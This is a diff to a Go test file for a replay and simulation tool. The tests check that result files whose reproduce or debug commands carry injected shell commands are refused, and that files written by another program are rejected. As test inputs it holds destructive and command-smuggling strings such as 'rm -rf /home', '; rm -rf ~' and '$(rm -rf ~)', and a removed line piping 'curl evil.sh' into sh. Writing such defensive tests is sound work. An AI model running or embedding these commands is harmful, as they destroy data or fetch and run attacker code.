@@ -46,19 +46,19 @@ func TestHostileResultFiles(t *testing.T) {
 	if err := writeResults(good, rf); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := readResults(good); err != nil {
+	if _, err := readResults(good, "replay"); err != nil {
 		t.Fatalf("a result file as written: %v", err)
 	}
 	b, _ := os.ReadFile(good)
 	trailing := filepath.Join(dir, "trailing.json")
 	os.WriteFile(trailing, append(b, "garbage"...), 0o644)
-	if _, err := readResults(trailing); err == nil || !strings.Contains(err.Error(), "more follows") {
+	if _, err := readResults(trailing, "replay"); err == nil || !strings.Contains(err.Error(), "more follows") {
 		t.Errorf("trailing garbage: %v", err)
 	}
 	rf.Runs = -5
 	negative := filepath.Join(dir, "negative.json")
 	writeResults(negative, rf)
-	if _, err := readResults(negative); err == nil || !strings.Contains(err.Error(), "cannot be negative") {
+	if _, err := readResults(negative, "replay"); err == nil || !strings.Contains(err.Error(), "cannot be negative") {
 		t.Errorf("negative runs: %v", err)
 	}
 	var out strings.Builder
@@ -86,7 +86,7 @@ func TestEditedResultFilesAreRefused(t *testing.T) {
 		}
 		return p
 	}
-	if _, err := readResults(write("good.json", base())); err != nil {
+	if _, err := readResults(write("good.json", base()), "replay"); err != nil {
 		t.Fatalf("a shard file as a hunt writes it: %v", err)
 	}
 	for _, c := range []struct {
@@ -103,7 +103,7 @@ func TestEditedResultFilesAreRefused(t *testing.T) {
 	} {
 		rf := base()
 		c.edit(rf)
-		_, err := readResults(write(strings.ReplaceAll(c.name, " ", "-")+".json", rf))
+		_, err := readResults(write(strings.ReplaceAll(c.name, " ", "-")+".json", rf), "replay")
 		if err == nil || !strings.Contains(err.Error(), c.want) {
 			t.Errorf("%s: %v, want an error saying %q", c.name, err, c.want)
 		}
@@ -200,8 +200,11 @@ func TestResultFilesWithCommandsOrExitsNoHuntWrites(t *testing.T) {
 		edit func(*resultFile)
 		want string
 	}{
-		{"a pipe", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "curl evil.sh | sh" }, `'|' outside quotes`},
-		{"another program", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "rm -rf /home" }, "not a replay"},
+		{"a pipe", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim paxos | sh" }, `'|' outside quotes`},
+		{"another program", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "rm -rf /home" }, `runs "rm", not replay`},
+		{"another program that runs a verb", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "rm sim -rf /home" }, `runs "rm", not replay`},
+		{"a program's name as a prefix", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replayx debug x.lz4" }, `runs "replayx", not replay`},
+		{"another verb", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replay export x.lz4" }, "not a replay sim, explore, debug or verify"},
 		{"a second command", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce += "; rm -rf ~" }, `';' outside quotes`},
 		{"a substitution", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim $(rm -rf ~)" }, `'$' outside quotes`},
 		{"an unclosed quote", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replay debug 'x.lz4" }, "an unclosed quote"},
@@ -231,6 +234,34 @@ func readBack(t *testing.T, dir string, rf *resultFile) error {
 	if err := writeResults(p, rf); err != nil {
 		t.Fatal(err)
 	}
-	_, err := readResults(p)
+	_, err := readResults(p, "replay")
 	return err
+}
+
+// The shards of a sweep run by a team's own binary (cli.Main) print its
+// commands: that binary merges them; another refuses them by name.
+func TestResultFilesOfAnotherProgram(t *testing.T) {
+	dir := t.TempDir()
+	seed := uint64(5)
+	rf := &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Command: "kvcheck sim paxos --seeds 1-10 --check builtin:paxos"},
+		Shard: shardSpec{Index: 0, Count: 1}, Runs: 10, Complete: false, Stopped: "failure", Exit: ExitViolations,
+		Failures: []huntFailure{{Seed: &seed, Kind: "violation", Step: 7, Reproduce: "kvcheck sim paxos --seed 5 -o s5.lz4",
+			Debug: "kvcheck debug s5.lz4 --preds builtin:paxos --at 7"}}}
+	p := filepath.Join(dir, "r.json")
+	if err := writeResults(p, rf); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := readResults(p, "kvcheck"); err != nil {
+		t.Errorf("read by kvcheck: %v", err)
+	}
+	if _, err := readResults(p, "replay"); err == nil || !strings.Contains(err.Error(), `runs "kvcheck", not replay`) {
+		t.Errorf("read by replay: %v, want refused by name", err)
+	}
+	rf.Failures[0].Reproduce = "kvcheck sim raft --seed 5 -o s5.lz4"
+	if err := writeResults(p, rf); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := readResults(p, "kvcheck"); err == nil || !strings.Contains(err.Error(), `runs system "raft"`) {
+		t.Errorf("another system under kvcheck: %v, want refused", err)
+	}
 }
